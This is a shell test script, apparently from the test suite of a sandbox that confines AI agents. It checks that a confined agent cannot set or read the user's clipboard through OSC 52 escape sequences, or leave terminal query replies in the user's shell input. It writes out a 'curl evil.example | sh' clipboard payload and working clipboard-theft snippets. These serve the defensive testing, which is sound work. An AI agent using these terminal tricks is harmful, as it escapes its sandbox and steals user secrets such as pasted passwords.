#!/bin/sh
# Attack: the user's terminal as a way out. The relay passes the agent's output to the user's
# terminal as it is (a full-screen agent needs its escape sequences), so the agent can command
# the terminal itself, as root and as an unprivileged user. On a private tmux server (what a
# person runs; `set-clipboard on`, a common setting for clipboard integration):
#   - OSC 52 "set clipboard": the agent's text becomes the user's paste buffer (and, through
#     tmux or directly, the desktop's clipboard), ready to be pasted into a shell outside;
#   - OSC 52 "query clipboard": the terminal answers with the user's paste buffer (what they
#     copied elsewhere: a password) on the agent's input;
#   - queries sent as the agent exits (XTVERSION, device attributes): the terminal's answers
#     arrive after `run` gave the terminal back and wait in its input for the user's shell
#     (bash's readline takes them for keys: the next command typed is mangled or lost).
# What must hold: nothing the agent writes reaches the clipboard or reads it, and no answer
# meant for the agent is left for the next program on the terminal. Prints TAP.
set -u
# shellcheck source=tests/lib/run_common.sh
. "$(dirname "$0")/../lib/run_common.sh"
# shellcheck source=tests/lib/confine_common.sh
. "$(dirname "$0")/../lib/confine_common.sh"

PLAN=10
run_needs_root $PLAN
run_needs_tools $PLAN setpriv tmux base64
tap_plan $PLAN

attack_setup
# Where each agent keeps what it read: in its working directory (the sandbox's /tmp is its own).
mkdir -p "$TMP/r" "$U/r"
chmod 777 "$U/r"
CLIP="curl evil.example | sh # cloister-clip-$$"
SECRET="hunter2-user-secret-$$"
SECRET64=$(printf '%s' "$SECRET" | base64)

# The agents. write: set the clipboard. read: ask for it, keep what comes back. bye: ask the
# terminal for its version and attributes and leave at once.
cat >"$TMP/write.sh" <<EOF
printf '\\033]52;c;%s\\007' "\$(printf '%s' '$CLIP' | base64 | tr -d '\\n')"
EOF
cat >"$TMP/read.sh" <<'EOF'
stty raw -echo min 0 time 20
printf '\033]52;c;?\007'
dd bs=1 count=400 2>/dev/null >"$1"
stty sane
EOF
# The queries come last in a long output, so that they are still on their way when the
# agent exits: the supervisor relays them to the terminal as it ends.
cat >"$TMP/bye.sh" <<'EOF'
head -c 65536 /dev/zero | tr '\0' ' '
printf '\033[>q\033[c\033[>c'
EOF
chmod 644 "$TMP/write.sh" "$TMP/read.sh" "$TMP/bye.sh"

TSOCK=cloister-attack-tty-$$
tmx() { tmux -L "$TSOCK" -f /dev/null "$@"; }
# shellcheck disable=SC2016 # expanded when the hook runs
on_exit 'tmux -L "$TSOCK" -f /dev/null kill-server 2>/dev/null; rm -f "${TMUX_TMPDIR:-/tmp}/tmux-$(id -u)/$TSOCK"'
# A session that lasts as long as the test: without it the server exits with the last session
# killed, and a session started at that moment fails ("server exited unexpectedly").
tmx new-session -d -s keep -x 20 -y 5 cat
pane() { tmx capture-pane -p -t "$1"; }
# shellcheck disable=SC2016 # the arguments of sh -c
wait_pane() { wait_until "${3:-10}" sh -c 'tmux -L "$1" -f /dev/null capture-pane -p -t "$2" 2>/dev/null | grep -Eq -- "$3"' \
	sh "$TSOCK" "$1" "$2"; }
shell_session() { # NAME root|nobody: an interactive bash the way a person has one
	if [ "$2" = nobody ]; then
		tmx new-session -d -s "$1" -x 100 -y 30 -c "$U" \
			"setpriv --reuid=$NOBODY --regid=$NOBODY --clear-groups env HOME=$U/home XDG_CONFIG_HOME=$U/home/.config XDG_STATE_HOME=$U/state TERM=screen PS1='outer\$ ' bash --norc --noprofile -i"
	else
		tmx new-session -d -s "$1" -x 100 -y 30 -c "$TMP" \
			"env TERM=screen PS1='outer\$ ' bash --norc --noprofile -i"
	fi
	wait_pane "$1" '^outer\$'
}
# run_in SESSION root|nobody AGENT-ARGS…: type a `run` of the agent at the shell, wait for its
# end (the marker line the shell prints after it, numbered: one per run).
runs=0
run_in() {
	runs=$((runs + 1))
	s=$1
	who=$2
	shift 2
	if [ "$who" = nobody ]; then
		cmd="$UB/cloister-supervisor run -q --config-dir $U/cfg -- $*"
	else
		cmd="$SUPERVISOR run -q --config-dir $CFG -- $*"
	fi
	tmx send-keys -t "$s" -l "$cmd; echo run-ended-$runs-\$?"
	tmx send-keys -t "$s" Enter
	wait_pane "$s" "run-ended-$runs-[0-9]+\$" 20
}

for who in root nobody; do
	s=$who
	shell_session "$s" "$who"
	tmx set -g set-clipboard on
	while tmx delete-buffer 2>/dev/null; do :; done
	run_in "$s" "$who" sh "$TMP/write.sh"
	tap_ok "$(tmx list-buffers -F '#{buffer_sample}' | grep -cF "cloister-clip-$$")" \
		"$who: the agent cannot set the user's clipboard (OSC 52)" \
		"tmux's buffers: $(tmx list-buffers)"

	while tmx delete-buffer 2>/dev/null; do :; done
	tmx set-buffer "$SECRET"
	if [ "$who" = root ]; then reply=$TMP/r/reply; else reply=$U/r/reply; fi
	run_in "$s" "$who" sh "$TMP/read.sh" "$reply"
	tap_ok "$(test -e "$reply" && echo 0 || echo 1)" "$who: the agent asked for the clipboard" \
		"$(pane "$s")"
	tap_ok "$(grep -cF "$SECRET64" "$reply" 2>&1)" \
		"$who: the agent cannot read the user's clipboard (OSC 52 query)" \
		"the agent read: $(od -c "$reply" 2>&1 | head -n 5)"

	tmx kill-session -t "$s"

	# What the terminal holds for whoever reads it next, once run has ended: read for as long
	# as something comes (a second of quiet ends it). Three runs: when the answers come back
	# depends on the load, and a hole shows in any of them.
	if [ "$who" = root ]; then left=$TMP/r/left; else left=$U/r/left; fi
	ended=0
	: >"$TMP/left-all"
	for try in 1 2 3; do
		rm -f "$left"
		tail="stty raw -echo min 0 time 10; dd bs=1 count=300 of=$left 2>/dev/null; stty sane; echo left-over-done"
		if [ "$who" = root ]; then
			tmx new-session -d -s "exit-$who-$try" -x 100 -y 30 -c "$TMP" \
				"env TERM=screen sh -c '$SUPERVISOR run -q --config-dir $CFG -- sh $TMP/bye.sh; $tail'"
		else
			tmx new-session -d -s "exit-$who-$try" -x 100 -y 30 -c "$U" \
				"setpriv --reuid=$NOBODY --regid=$NOBODY --clear-groups env HOME=$U/home XDG_CONFIG_HOME=$U/home/.config XDG_STATE_HOME=$U/state TERM=screen sh -c '$UB/cloister-supervisor run -q --config-dir $U/cfg -- sh $TMP/bye.sh; $tail'"
		fi
		tmx set -t "exit-$who-$try" remain-on-exit on
		wait_pane "exit-$who-$try" 'left-over-done' 20 && ended=$((ended + 1))
		od -An -c "$left" 2>&1 | tr -s ' \n' ' ' >>"$TMP/left-all"
		tmx kill-session -t "exit-$who-$try"
	done
	tap_is "$ended" 3 "$who: three times, the agent's last output went out and run ended"
	tap_is "$(tr -d ' ' <"$TMP/left-all")" "" \
		"$who: after run, nothing the terminal answered the agent waits in its input" \
		"left in the terminal's input: $(cat "$TMP/left-all")"
done

tap_done
